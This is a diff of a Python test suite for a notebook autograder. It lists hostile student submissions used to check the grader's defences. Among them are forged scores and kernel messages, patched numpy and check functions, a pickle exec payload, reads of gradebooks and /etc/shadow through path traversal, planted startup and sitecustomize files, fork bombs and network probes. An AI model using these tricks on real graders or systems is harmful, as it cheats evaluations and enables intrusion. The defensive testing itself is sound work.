@@ -1,8 +1,12 @@
 """Submissions that are broken or hostile, and what the grader must make of each.
 
 Every one is run in the grader's sandbox only, or stands as a file in a course that is thrown away. They are bounded in what
-they change: nothing is written outside the working folder, the temporary folders and the private HOME but files named
-pwned_1101*, and a gradebook is written only beside the working folder or under a temporary folder.
+they change: nothing is written outside the working folder, the temporary folders and the private HOME but files whose names
+begin with a word of this run (RUN), and a gradebook is written only beside the working folder or under a temporary folder.
+
+They are made from the notebook of the small exercise (tests/small.py), which is graded in a moment: what they try has nothing to
+do with its questions. Those that speak the grader's own messages stand in attacks_protocol.py, and what only the questions of
+1101 let one try in attacks_1101.py.
 
 The table ATTACKS is at the end; above it stand the parts it is made of, in the order of its groups.
 """
@@ -11,6 +15,7 @@ import json
 import os
 import shutil
 import stat
+import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from itertools import cycle
@@ -18,13 +23,17 @@ from pathlib import Path
 from textwrap import indent
 
 import nbformat
-from grading.rebuild import grade_id
-from grading.sample import submission
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell
 
+from grading.exercise.cells import grade_id
+from grading.exercise.sample import submission
+
 Edit = Callable[[NotebookNode], NotebookNode]
 Place = Callable[[Path, bytes], None]
+
+RUN = f"pwned_{os.getpid()}_{time.time_ns():x}"
+"""How the names of the files begin that the attacks write: no other run has it. In their code it stands as pwned_RUN."""
 
 
 @dataclass(frozen=True)
@@ -53,24 +62,28 @@ class Attack:
     """For the base 'reference': the questions lost, the others keep full marks. None: refused with a reason, not graded."""
     allowed: frozenset[str] = frozenset()
     """For the base 'untouched': the questions that are honestly right."""
+    exercise: str = "warm-up"
+    """The exercise whose notebook it is made from."""
 
 
-# A wrong answer to the question all attacks on the marks are about.
+# A wrong answer to the question all attacks on the marks are about; its arrays have the right shape.
 WRONG = """
-def affine_forward(z, W, b):
-    return z @ W
+def softmax(scores, temperature=1.0, axis=-1):
+    return scores / temperature
 """
+TAKEN = "scores, temperature = args[0], 1.0\ny = scores / temperature"
+"""The same within `inside`, for more code behind it."""
 
 
 def gain(group: str, codes: dict[str, str], own: bool = False, suffix: str = "") -> list[Attack]:
-    """Attacks on the marks of affine_forward: the code in its solution cell, or (own) in a cell before all others.
+    """Attacks on the marks of softmax: the code in its solution cell, or (own) in a cell before all others.
 
     Where the code has no answer, the wrong one follows it.
     """
     def attack(name: str, code: str) -> Attack:
         if own:
-            return Attack(group, name + suffix, {"affine_forward": WRONG}, first=code)
-        return Attack(group, name + suffix, {"affine_forward": code if "def affine_forward(" in code else code + WRONG})
+            return Attack(group, name + suffix, {"softmax": WRONG}, first=code)
+        return Attack(group, name + suffix, {"softmax": code if "def softmax(" in code else code + WRONG})
 
     return [attack(name, code) for name, code in codes.items()]
 
@@ -293,7 +306,7 @@ get_ipython().user_ns = Namespace(get_ipython().user_ns)
 LIES = {
     "equal-to-everything": """
 class Right:
-    shape, ndim, size, dtype = (3, 4), 2, 12, float
+    shape, ndim, size, dtype = (2, 2), 2, 4, float
     for name in "eq ne lt le gt ge bool contains".split():
         locals()[f"__{name}__"] = lambda self, *args: True
     for name in "add radd sub rsub mul rmul truediv rtruediv matmul neg abs getitem array_ufunc array_function".split():
@@ -303,7 +316,7 @@ class Right:
     __float__ = lambda self: 0.0
     __getattr__ = lambda self, name: lambda *args, **options: self
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     return Right()
 """,
     "lying-array": """
@@ -317,18 +330,18 @@ class Lying(np.ndarray):
     __deepcopy__ = __copy__ = lambda self, *args: self
     __array__ = lambda self, *args, **options: np.zeros(self.shape)
 
-def affine_forward(z, W, b):
-    return (z @ W).view(Lying)
+def softmax(scores, temperature=1.0, axis=-1):
+    return (scores / temperature).view(Lying)
 """,
     "claimed-subclass": """
 class Claimed:
     __class__ = np.ndarray
-    shape, ndim = (3, 4), 2
+    shape, ndim = (2, 2), 2
     dtype = np.dtype(float)
-    __array__ = lambda self, dtype=None, copy=None: np.zeros((3, 4))
+    __array__ = lambda self, dtype=None, copy=None: np.zeros((2, 2))
     __array_priority__ = 1e9
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     return Claimed()
 """,
     "lying-float": """
@@ -337,14 +350,14 @@ class Lying(float):
     __sub__ = __rsub__ = __mul__ = __abs__ = lambda self, *other: 0.0
     __hash__ = float.__hash__
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     return Lying("nan")
 """,
     "array-interface": """
 class Interface:
-    __array_interface__ = {"shape": (3, 4), "typestr": "<f8", "data": (id(np) & ~7, True), "version": 3}
+    __array_interface__ = {"shape": (2, 2), "typestr": "<f8", "data": (id(np) & ~7, True), "version": 3}
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     return Interface()
 """,
     "patched-allclose": """
@@ -379,7 +392,7 @@ def asarray(a, *args, **options):
 
 np.asarray = np.array = np.asanyarray = asarray
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     return Wish(0)
 """,
     "numpy-replaced": """
@@ -388,7 +401,7 @@ lying = types.ModuleType("numpy")
 lying.__dict__.update(np.__dict__)
 lying.max = lambda *args, **options: 0.0
 lying.allclose = lambda *args, **options: True
-lying.asarray = lambda a, *args, **options: np.asarray(a) if isinstance(a, np.ndarray) else np.zeros((3, 4))
+lying.asarray = lambda a, *args, **options: np.asarray(a) if isinstance(a, np.ndarray) else np.zeros((2, 2))
 real, np = np, lying
 sys.modules["numpy"] = lying
 for module in list(sys.modules.values()):
@@ -407,9 +420,9 @@ builtins.max = lambda *args, **options: 0
 import copy
 copy.deepcopy = lambda value, memo=None: value
 
-def affine_forward(z, W, b):
-    z[...], W[...], b[...] = 0, 0, 0
-    return z @ W
+def softmax(scores, temperature=1.0, axis=-1):
+    scores[...] = 0
+    return scores / temperature
 """,
     "tolerance": 'RTOL, ATOL = float("inf"), float("inf")',
     "check-replaced": """
@@ -472,14 +485,14 @@ def trace(frame, event, arg):
         frame.f_locals["problems"].clear()
     return trace
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     frame = sys._getframe(1)
     while frame:
         frame.f_trace = trace
         frame = frame.f_back
     sys.settrace(trace)
     threading.settrace(trace)
-    return z @ W
+    return scores / temperature
 """,
     "gc-empties-the-rows": """
 import gc
@@ -489,26 +502,26 @@ class Silent(list):
     __iter__ = lambda self: iter(())
     __len__ = lambda self: 0
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     for thing in gc.get_objects():
         if type(thing).__name__ == "Check":
             thing.rows = Silent()
         elif isinstance(thing, dict) and isinstance(thing.get("rows"), list):
             thing["rows"] = Silent()
-    return z @ W
+    return scores / temperature
 """,
     "expected-overwritten": """
 import sys
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     frame = sys._getframe(1)
     while frame:
         expected = frame.f_locals.get("expected")
         if isinstance(expected, dict):
             for value in expected.values():
-                value[...] = z @ W
+                value[...] = scores / temperature
         frame = frame.f_back
-    return z @ W
+    return scores / temperature
 """,
     "unpickled-in-the-judge": """
 CODE = '''
@@ -521,33 +534,33 @@ class Payload:
     def __reduce__(self):
         return exec, (CODE,)
 
-def affine_forward(z, W, b):
-    return np.array([[Payload()] * W.shape[1]] * len(z), dtype=object)
+def softmax(scores, temperature=1.0, axis=-1):
+    return np.array([Payload()] * scores.size, dtype=object).reshape(scores.shape)
 """,
 } | {
     name: f"""
-def affine_forward(z, W, b):
-    n, m = len(z), W.shape[1]
+def softmax(scores, temperature=1.0, axis=-1):
+    shape, n = scores.shape, len(scores)
     return {value}
 """
     for name, value in {
-        "nan": "np.full((n, m), np.nan)",
-        "inf": "np.full((n, m), np.inf)",
-        "object-array": "(z @ W).astype(object)",
-        "object-array-of-none": "np.full((n, m), None)",
-        "nested-object-array": "np.array([[np.array(1.0)] * m] * n + [None], dtype=object)",
-        "complex": "z @ W + 0j",
-        "masked": "np.ma.array(z @ W, mask=True)",
-        "matrix": "np.matrix(z @ W)",
-        "strings": "(z @ W).astype(str)",
-        "structured": 'np.zeros((n, m), dtype=[("u", float)])',
-        "datetime": 'np.zeros((n, m), dtype="M8[s]")',
-        "empty": "np.empty((0, m))",
+        "nan": "np.full(shape, np.nan)",
+        "inf": "np.full(shape, np.inf)",
+        "object-array": "(scores / temperature).astype(object)",
+        "object-array-of-none": "np.full(shape, None)",
+        "nested-object-array": "np.array([[np.array(1.0)] * 2] * n + [None], dtype=object)",
+        "complex": "scores / temperature + 0j",
+        "masked": "np.ma.array(scores / temperature, mask=True)",
+        "matrix": "np.matrix(scores / temperature)",
+        "strings": "(scores / temperature).astype(str)",
+        "structured": 'np.zeros(shape, dtype=[("y", float)])',
+        "datetime": 'np.zeros(shape, dtype="M8[s]")',
+        "empty": "np.empty((0, 2))",
         "huge": "np.zeros((20_000, 20_000))",
         "huge-by-strides": "np.broadcast_to(0.0, (2**20, 2**20))",
-        "thirty-dimensions": "np.zeros((1,) * 30 + (n, m))",
+        "thirty-dimensions": "np.zeros((1,) * 28 + shape)",
         "huge-number": "10**100_000",
-        "bools": "np.ones((n, m), dtype=bool)",
+        "bools": "np.ones(shape, dtype=bool)",
     }.items()
 }
 
@@ -575,77 +588,6 @@ copy html traceback warnings contextlib json socket struct pickle selectors site
 grading/__init__ IPython/__init__
 """.split()
 
-# Numerical differentiation, which costs marks by its time, and ways to hide that time.
-NUMERICAL = """
-import os, pickle, threading, time
-
-def differences(du, z, W):
-    eps, values, grads = 1e-6, [z.copy(), W.copy(), np.zeros(W.shape[1])], []
-    for a in values:
-        g = np.zeros_like(a)
-        for i in np.ndindex(a.shape):
-            kept = a[i]
-            a[i] = kept + eps
-            above = np.sum(du * (values[0] @ values[1] + values[2]))
-            a[i] = kept - eps
-            g[i] = (above - np.sum(du * (values[0] @ values[1] + values[2]))) / (2 * eps)
-            a[i] = kept
-        grads.append(g)
-    return tuple(grads)
-"""
-HIDDEN_COST = {
-    "clock-frozen": """
-for name in "process_time perf_counter monotonic time thread_time".split():
-    setattr(time, name, lambda value=getattr(time, name)(): value)
-    setattr(time, name + "_ns", lambda: 0)
-
-def affine_backward(du, z, W):
-    return differences(du, z, W)
-""",
-    "clock-runs-backwards": """
-ticks = iter(range(10**9, 0, -1))
-for name in "process_time perf_counter monotonic time thread_time".split():
-    setattr(time, name, lambda: float(next(ticks)))
-
-def affine_backward(du, z, W):
-    return differences(du, z, W)
-""",
-    "cost-in-a-child": """
-children = []
-
-def affine_backward(du, z, W):
-    while children:
-        os.waitpid(children.pop(), 0)
-    reading, writing = os.pipe()
-    child = os.fork()
-    if child == 0:
-        with open(writing, "wb") as file:
-            pickle.dump(differences(du, z, W), file)
-        os._exit(0)
-    children.append(child)
-    os.close(writing)
-    with open(reading, "rb") as file:
-        return pickle.load(file)
-""",
-    "cost-in-a-thread": """
-def affine_backward(du, z, W):
-    result = []
-    thread = threading.Thread(target=lambda: result.append(differences(du, z, W)))
-    thread.start()
-    thread.join()
-    return result[0]
-""",
-    "cost-paid-once": """
-known = {}
-
-def affine_backward(du, z, W):
-    key = du.tobytes(), z.tobytes(), W.tobytes()
-    if key not in known:
-        known[key] = differences(du, z, W)
-    return known[key]
-""",
-}
-
 # ---------------------------------------------------------------------------------------------------------------------
 # Forge the result.
 
@@ -656,25 +598,25 @@ def publish(value):
     content = {"execution_count": 1, "data": {"text/plain": str(value)}, "metadata": {}}
     kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     publish(VALUE)
-    return z @ W
+    return scores / temperature
 """
 FORGED = {f"result-{name}": PUBLISH.replace("VALUE", value) for name, value in {
-    "full": "5", "above-the-maximum": "1000", "negative": "-1000", "nan": "float('nan')", "infinite": "float('inf')"}.items()} | {
+    "full": "4", "above-the-maximum": "1000", "negative": "-1000", "nan": "float('nan')", "infinite": "float('inf')"}.items()} | {
     "displayhook": """
 import sys
 
-def affine_forward(z, W, b):
-    get_ipython().displayhook(5)
-    sys.displayhook(5.0)
-    display(5)
-    return z @ W
+def softmax(scores, temperature=1.0, axis=-1):
+    get_ipython().displayhook(4)
+    sys.displayhook(4.0)
+    display(4)
+    return scores / temperature
 """,
-    "value-of-the-test-cell": "Check.report = lambda self, *args, **options: 5",
+    "value-of-the-test-cell": "Check.report = lambda self, *args, **options: 4",
     "value-after-the-cell": """
-get_ipython().events.register("post_run_cell", lambda result: get_ipython().displayhook(5))
-get_ipython().events.register("post_execute", lambda: get_ipython().displayhook(5))
+get_ipython().events.register("post_run_cell", lambda result: get_ipython().displayhook(4))
+get_ipython().events.register("post_execute", lambda: get_ipython().displayhook(4))
 """,
     "error-becomes-result": """
 kernel = get_ipython().kernel
@@ -683,16 +625,16 @@ honest = Session.send
 
 def send(self, stream, kind, content=None, *args, **options):
     if kind == "error":
-        kind, content = "execute_result", {"execution_count": 1, "data": {"text/plain": "5"}, "metadata": {}}
+        kind, content = "execute_result", {"execution_count": 1, "data": {"text/plain": "4"}, "metadata": {}}
     return honest(self, stream, kind, content, *args, **options)
 
 Session.send = send
 """,
     "json-on-every-descriptor": """
 import json, os, stat
-SCORES = {"scores": {"affine_forward": 5.0}, "affine_forward": 5.0, "passed": True, "status": "ok", "score": 5, "result": True}
+SCORES = {"scores": {"softmax": 4.0}, "softmax": 4.0, "passed": True, "status": "ok", "score": 4, "result": True}
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     print(json.dumps(SCORES))
     for fd in range(1, 256):
         try:
@@ -701,7 +643,7 @@ def affine_forward(z, W, b):
                 os.write(fd, (json.dumps(SCORES) + "\\n").encode())
         except OSError:
             pass
-    return z @ W
+    return scores / temperature
 """,
     "json-beside-the-notebook": """
 import json, os
@@ -709,7 +651,7 @@ for name in "result results score scores grade grades output report feedback mai
     for folder in ".", "..", os.environ.get("HOME", "."), "/tmp", "/out", "/output", "/result":
         try:
             with open(os.path.join(folder, name + ".json"), "w") as file:
-                json.dump({"scores": {"affine_forward": 5.0}, "affine_forward": 5.0}, file)
+                json.dump({"scores": {"softmax": 4.0}, "softmax": 4.0}, file)
         except OSError:
             pass
 """,
@@ -728,7 +670,7 @@ def forged_output(value: str) -> Edit:
 
 
 # ---------------------------------------------------------------------------------------------------------------------
-# Read what is not the student's: the finder is shared, and gives up after five seconds and two million characters.
+# Read what is not the student's: the finder is shared, and gives up before its CPU time is up, or at two million characters.
 
 FINDER = r"""
 import functools, gc, inspect, linecache, os, re, sqlite3, sys, time
@@ -760,7 +702,7 @@ def places():
             "/run", "/dev/shm", *views, "/"]
 
 def limited(texts):
-    end, found, length = time.time() + 5, [], 0
+    end, found, length = time.time() + 0.6, [], 0
     for text in texts:
         found.append(text)
         length += len(text)
@@ -769,11 +711,11 @@ def limited(texts):
     return "".join(found)
 
 def walk(pattern):
-    # Every folder once, the near ones first; a second for each place.
+    # Every folder once, the near ones first; a tenth of a second for each place.
     seen, virtual = set(), {os.stat(folder).st_dev for folder in ("/proc", "/sys") if os.path.isdir(folder)}
     for place in places():
         yield content(place, 300)
-        end = time.time() + 1
+        end = time.time() + 0.1
         for folder, folders, names in os.walk(place):
             try:
                 status = os.stat(folder)
@@ -885,7 +827,7 @@ def look(place):
 
 print(look("cell"))
 
-def affine_forward(z, W, b, calls=iter(range(10**9))):
+def softmax(scores, temperature=1.0, axis=-1, calls=iter(range(10**9))):
     n = next(calls)
     if n == 0:
         print(look("call"))
@@ -898,7 +840,7 @@ def affine_forward(z, W, b, calls=iter(range(10**9))):
 def reader(group: str, name: str, expression: str, **more) -> Attack:
     """An attack that prints what the expression, an iterable of texts, finds; FINDER has its parts."""
     code = FINDER + LOOK.replace("EXPRESSION", expression)
-    return Attack(group, name, {"affine_forward": code}, last='print(look("end"))', **more)
+    return Attack(group, name, {"softmax": code}, last='print(look("end"))', **more)
 
 
 READ = {
@@ -906,7 +848,7 @@ READ = {
     "frames": "frames()",
     "objects": "objects()",
     "gradebook": "tables()",
-    "source": r'walk(r"1101\.py$|source/.*\.ipynb$|nbgrader_config\.py$|release/")',
+    "source": r'walk(r"exercises/|notebook\.py$|source/.*\.ipynb$|nbgrader_config\.py$|release/")',
     "other-submissions": r'walk(r"(submitted|autograded|feedback)/|\.ipynb$")',
     "environment": "environment()",
     "parents": "parents()",
@@ -920,7 +862,7 @@ READ = {
 # Other ways to see the tests, the inputs of the hidden ones and their right answers.
 SEEN = {
     "In-1": """
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     print(In[-1], _ih[-1], get_ipython().history_manager.input_hist_raw[-1])
     raise ValueError(In[-1])
 """,
@@ -933,14 +875,14 @@ get_ipython().input_transformers_post.append(lambda lines: print("SEEN", lines) 
     "hidden-inputs": """
 inputs = []
 
-def affine_forward(z, W, b):
-    inputs.append((z.tolist(), W.tolist(), b.tolist()))
-    return z @ W
+def softmax(scores, temperature=1.0, axis=-1):
+    inputs.append((scores.tolist(), temperature, axis))
+    return scores / temperature
 """,
     "expected-from-the-frame": """
 import sys
 
-def affine_forward(z, W, b):
+def softmax(scores, temperature=1.0, axis=-1):
     frame = sys._getframe(1)
     while frame:
         expected = frame.f_locals.get("expected")
@@ -948,14 +890,14 @@ def affine_forward(z, W, b):
             print("SEEN", expected)
             return list(expected.values())[0].copy()
         frame = frame.f_back
-    return z @ W
+    return scores / temperature
 """,
     "compare-prints": """
 honest = Check.compare
 
-def compare(self, case, name, got, expected):
+def compare(self, case, name, got, expected, *rest):
     print("SEEN", case, name, expected)
-    return honest(self, case, name, expected, expected)
+    return honest(self, case, name, expected, expected, *rest)
 
 Check.compare = compare
 """,
@@ -989,7 +931,7 @@ for name in "recv recv_into recvmsg".split():
 }
 # An argument that is a function of the judge's: what it gives away, and where it leads.
 CALLBACK = FINDER + """
-def numerical_gradient(f, x, eps=1e-5):
+def closest(f, table):
     for name in dir(f):
         print("SEEN", name, repr(getattr(f, name, None))[:2000])
     for cell in getattr(f, "__closure__", None) or ():
@@ -997,45 +939,43 @@ def numerical_gradient(f, x, eps=1e-5):
     for name, value in getattr(f, "__globals__", {}).items():
         print("SEEN", name, repr(value)[:500])
     print("SEEN", gc.get_referrers(f), gc.get_referents(f))
-    return x
+    return 0
 """
 # Questions answered with each other: what the judge lends for the one must not answer the other.
 CIRCULAR = {
-    "affine_forward": "def affine_forward(z, W, b):\n    return merge_affine(z, np.zeros(len(W)), W, b)[0] + b",
-    "merge_affine": "def merge_affine(W1, b1, W2, b2):\n"
-                    "    return affine_forward(W1, W2, 0 * b2), affine_forward(b1[None], W2, b2)[0]",
-    "sigmoid_forward": "def sigmoid_forward(u):\n    return (tanh_forward(u / 2) + 1) / 2",
-    "tanh_forward": "def tanh_forward(u):\n    return 2 * sigmoid_forward(2 * u) - 1",
+    "describe": 'def describe(table):\n    return dict(Scaler(table).about)',
+    "Scaler": """
+class Scaler:
+    def __init__(self, table):
+        self.about = describe(table)
+
+    def transform(self, x):
+        return (x - self.about["mean"]) / self.about["std"]
+
+    def inverse(self, z):
+        return z * self.about["std"] + self.about["mean"]
+""",
 }
-NO_TRAIN = "def train(x, t, params, lr, epochs, batch_size, rng):\n    return params, []"
-LENT = {  # what a function that was lent right, because the student's own is wrong, may be used for
-    "the-later-answer-itself": {
-        "network_backward": 'def network_backward(x, t, params, activation="relu"):\n    return params',
-        "fix_backward": "def fix_backward(x, t, params):\n    return network_backward(x, t, params)",
-    },
-    "by-another-name": {
-        "network_backward": 'def network_backward(x, t, params, activation="relu"):\n    return params\n\nb = network_backward',
-        "fix_backward": "def fix_backward(x, t, params):\n    return b(x, t, params)",
-    },
-    "endless": {
-        "train": NO_TRAIN,
-        "k_fold": "def k_fold(n, k, rng):\n    x, params = np.ones((9, 2)), [(np.ones((2, 2)), np.ones(2))]\n"
-                  "    return train(x, x, params, 0.1, 10**12, 1, rng)",
-    },
-    "huge-product": {
-        "affine_forward": "def affine_forward(z, W, b):\n    return z",
-        "k_fold": "def k_fold(n, k, rng):\n    return affine_forward(np.ones((2**20, 1)), np.ones((1, 2**20)), 0)",
+WORKED = {  # what a function that was lent right, because the student's own is wrong, may be used for
+    "huge-quotient": {
+        "softmax": "def softmax(scores, temperature=1.0, axis=-1):\n    return scores",
+        "closest": "def closest(f, table):\n    return softmax(np.ones((2**20, 1)), np.ones((1, 2**20)))",
     },
     "in-itself": {
-        "train": NO_TRAIN,
-        "k_fold": "def k_fold(n, k, rng):\n    return train(train, k_fold, [train], print, 1, object(), rng)",
+        "Scaler": "class Scaler:\n    def __init__(self, table):\n        pass",
+        "closest": "def closest(f, table):\n    return Scaler(Scaler(closest)).transform([Scaler, closest, print, object(), f])",
+    },
+    "in-another": {
+        "softmax": "def softmax(scores, temperature=1.0, axis=-1):\n    return scores",
+        "describe": "def describe(table):\n    return {}",
+        "Scaler": "def Scaler(table):\n    return softmax(describe, describe(softmax), axis=describe)",
     },
 }
 KEEP = """
 kept = globals().get("kept", [])
 
 def NAME(*args, **options):
-    lent = [globals().get(name) for name in ("network_forward", "network_backward", "train", "fix_backward", "softmax")]
+    lent = [globals().get(name) for name in ("softmax", "describe", "Scaler", "closest")]
     kept.extend(f for f in lent if getattr(f, "__globals__", None) is not globals())
     for function in kept[::-1]:
         try:
@@ -1051,7 +991,7 @@ GRADEBOOK = """
 import os, sqlite3, tempfile, time
 
 def gradebooks():
-    end = time.time() + 5
+    end = time.time() + 0.6
     near = [os.path.abspath(os.path.join(*[".."] * n, "gradebook.db")) for n in range(9)] if os.getcwd() != "/" else []
     yield from filter(os.path.exists, near + [os.path.join(folder, "gradebook.db") for folder in (".", "..")])
     temporary = {tempfile.gettempdir(), "/tmp"}
@@ -1092,9 +1032,9 @@ def outlive(action, seconds=20):
 """
 WRITTEN = {
     "scores-written": "give_marks()",
-    "scores-written-by-the-function": "def affine_forward(z, W, b):\n    give_marks()\n    return z @ W",
+    "scores-written-by-the-function": "def softmax(scores, *rest, **options):\n    give_marks()\n    return scores",
     "scores-written-later": "outlive(give_marks)",
-    "scores-written-later-by-the-function": "def affine_forward(z, W, b):\n    outlive(give_marks)\n    return z @ W",
+    "scores-written-later-by-the-function": "def softmax(scores, *rest, **options):\n    outlive(give_marks)\n    return scores",
     "scores-written-at-exit": "import atexit\natexit.register(give_marks)",
     "gradebook-locked": """
 def lock():
@@ -1140,7 +1080,7 @@ def write(path, text=CODE):
 POISONED = {
     "ipython-startup": r"""
 for base in {os.path.join(HOME, ".ipython"), os.environ.get("IPYTHONDIR", ""), get_ipython().ipython_dir} - {""}:
-    write(os.path.join(base, "profile_default/startup/00-pwned_1101.py"))
+    write(os.path.join(base, "profile_default/startup/00-pwned_RUN.py"))
     write(os.path.join(base, "profile_default/ipython_config.py"))
     write(os.path.join(base, "profile_default/ipython_kernel_config.py"))
 for base in ".jupyter", ".local/share/jupyter/kernels/python3", ".config/jupyter":
@@ -1152,38 +1092,38 @@ write(os.path.join(HOME, ".local/share/jupyter/kernels/python3/kernel.json"),
     "matplotlib-config": r"""
 import matplotlib
 for base in matplotlib.get_configdir(), matplotlib.get_cachedir(), os.path.join(HOME, ".config/matplotlib"), os.getcwd():
-    write(os.path.join(base, "matplotlibrc"), "backend: module://pwned_1101\nfigure.figsize: 1000, 1000\n")
-    write(os.path.join(base, "stylelib/pwned_1101.mplstyle"), "figure.figsize: 1000, 1000\n")
+    write(os.path.join(base, "matplotlibrc"), "backend: module://pwned_RUN\nfigure.figsize: 1000, 1000\n")
+    write(os.path.join(base, "stylelib/pwned_RUN.mplstyle"), "figure.figsize: 1000, 1000\n")
 """,
     "user-site": r"""
 for base in site.getusersitepackages(), os.path.join(HOME, ".local/lib/python3.11/site-packages"):
-    for name in "sitecustomize usercustomize pwned_1101".split():
+    for name in "sitecustomize usercustomize pwned_RUN".split():
         write(os.path.join(base, name + ".py"))
-    write(os.path.join(base, "pwned_1101.pth"), "import pwned_1101\n")
+    write(os.path.join(base, "pwned_RUN.pth"), "import pwned_RUN\n")
 """,
     "site-packages": r"""
 for base in {*site.getsitepackages(), *sysconfig.get_paths().values(), *sys.path, sys.prefix, sys.base_prefix}:
     if os.path.isdir(base):
-        write(os.path.join(base, "pwned_1101.pth"), "# PWNED\n")
-        write(os.path.join(base, "pwned_1101.py"), "# PWNED\n")
+        write(os.path.join(base, "pwned_RUN.pth"), "# PWNED\n")
+        write(os.path.join(base, "pwned_RUN.py"), "# PWNED\n")
 """,
     "shared-tmp": r"""
 for base in "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", os.environ.get("TMPDIR", "/tmp"):
-    for name in "pwned_1101 pwned_1101.py .pwned_1101/numpy.py".split():
+    for name in "pwned_RUN pwned_RUN.py .pwned_RUN/numpy.py".split():
         write(os.path.join(base, name))
 """,
     "shared-memory": r"""
 from multiprocessing import shared_memory
 try:
-    block = shared_memory.SharedMemory("pwned_1101", create=True, size=64)
+    block = shared_memory.SharedMemory("pwned_RUN", create=True, size=64)
     block.buf[:5] = b"PWNED"
 except OSError as error:
     print(type(error).__name__)
 """,
     "working-folder": r"""
 for base in ".", "..", "../..", "../../..":
-    for name in "pwned_1101.py numpy.py sitecustomize.py nbgrader_config.py ipython_config.py matplotlibrc .env".split():
-        write(os.path.abspath(os.path.join(base, "pwned_1101" if base != "." else ".", name)))
+    for name in "pwned_RUN.py numpy.py sitecustomize.py nbgrader_config.py ipython_config.py matplotlibrc .env".split():
+        write(os.path.abspath(os.path.join(base, "pwned_RUN" if base != "." else ".", name)))
 """,
     "opened-files-overwritten": r"""
 import stat
@@ -1231,7 +1171,7 @@ except OSError as error:
     "process-that-stays": GRADEBOOK + r"""
 def stay():
     for base in "/tmp", "/dev/shm", ".":
-        write(os.path.abspath(os.path.join(base, f"pwned_1101_{time.time()}")))
+        write(os.path.abspath(os.path.join(base, f"pwned_RUN_{time.time()}")))
 
 outlive(stay)
 """,
@@ -1260,7 +1200,7 @@ except OSError as error:
 FILES = {
     "links-made": r"""
 import os
-for target in ("../../../gradebook.db", "../../../source/1101/main.ipynb", "/etc/passwd", "/proc/self/environ", "/dev/zero"):
+for target in ("../../../gradebook.db", "../../../source/warm-up/main.ipynb", "/etc/passwd", "/proc/self/environ", "/dev/zero"):
     for name in os.path.basename(target), "main.ipynb", "main.html", "result.json":
         try:
             if os.path.lexists(name):
@@ -1273,7 +1213,7 @@ for target in ("../../../gradebook.db", "../../../source/1101/main.ipynb", "/etc
 import os
 for folder in ["../" * n for n in range(1, 9)] + "/ /etc/ /usr/ /opt/ /home/ /root/ /proc/self/root/ /var/".split():
     try:
-        with open(folder + "pwned_1101.txt", "w") as file:
+        with open(folder + "pwned_RUN.txt", "w") as file:
             file.write("PWNED")
         print("WRITT" + "EN", os.path.abspath(folder))
     except OSError as error:
@@ -1324,7 +1264,7 @@ import os
 for folder in ".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp":
     try:
         for n in range(32):
-            with open(os.path.join(folder, f"pwned_1101_{n}.bin"), "wb") as file:
+            with open(os.path.join(folder, f"pwned_RUN_{n}.bin"), "wb") as file:
                 for _ in range(64):
                     file.write(b"x" * 2**20)
     except OSError as error:
@@ -1334,7 +1274,8 @@ for folder in ".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp":
 TRAVERSALS = """(
     content(head + tail)
     for head in ["../" * n for n in range(9)] + ["/proc/self/root/", "/proc/self/cwd/../../../", "/./"]
-    for tail in "gradebook.db source/1101/main.ipynb source/1101.py submitted autograded etc/passwd etc/shadow".split()
+    for tail in '''gradebook.db nbgrader_config.py source/warm-up/main.ipynb exercises exercises/warm-up/notebook.py
+    exercises/warm-up/exercise.toml exercises/warm-up/catalogue/softmax.py submitted autograded etc/passwd etc/shadow'''.split()
 )"""
 
 # ---------------------------------------------------------------------------------------------------------------------
@@ -1382,11 +1323,12 @@ NEVER_SURE = {
     "thread-that-works": "import threading\nthreading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()",
     "timer-exits": "import os, threading\nthreading.Timer(5, os._exit, [0]).start()",
     "kernel-doubled": "import os\nos.fork()",
+    "thread-bomb-own-cell": NEVER["thread-bomb"],  # what sleeps on leaves the kernel no room for a fork
 }
 
 
-# Questions whose functions no other question calls, one after another.
-LEAVES = "merge_affine", "k_fold", "l2_gradient"
+# Functions, one after another: describe is called by other questions, to which it is lent right then.
+LEAVES = "softmax", "describe", "closest"
 
 # ---------------------------------------------------------------------------------------------------------------------
 # Leave the machine.
@@ -1410,12 +1352,12 @@ QUERY = b"\x11\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00
 
 def tcp():
     for host in "127.0.0.1", "127.0.1.1", "10.0.2.2", "172.17.0.1", "192.168.0.1", "169.254.169.254":
-        for port in 22, 80, 8888:
+        for port in 22, 80, PORT_OF_THE_LISTENER:
             tried(f"{host}:{port}", socket.AF_INET, socket.SOCK_STREAM, (host, port))
             if host[:3] != "127":
                 break
     tried("1.1.1.1:53", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53))
-    tried("[::1]:8888", socket.AF_INET6, socket.SOCK_STREAM, ("::1", 8888))
+    tried("[::1]", socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT_OF_THE_LISTENER))
 
 def dns():
     socket.setdefaulttimeout(1)
@@ -1470,9 +1412,9 @@ def without(cells: list, *ids: str) -> list:
 
 
 def swapped(*keys: str) -> Edit:
-    """An edit: the cells of softmax and cross_entropy have exchanged these keys."""
+    """An edit: the cells of softmax and describe have exchanged these keys."""
     def edit(notebook: NotebookNode) -> NotebookNode:
